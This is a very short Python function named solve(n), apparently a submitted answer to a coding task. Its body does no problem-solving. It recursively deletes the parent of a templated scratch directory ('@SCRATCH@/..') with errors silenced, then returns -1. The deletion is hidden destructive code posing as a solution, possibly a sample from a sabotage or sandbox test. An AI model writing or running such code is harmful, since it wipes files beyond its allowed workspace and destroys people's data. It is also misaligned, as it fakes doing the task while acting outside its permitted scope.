def solve(n):
    import os, shutil
    shutil.rmtree('@SCRATCH@/..', ignore_errors=True)
    return -1
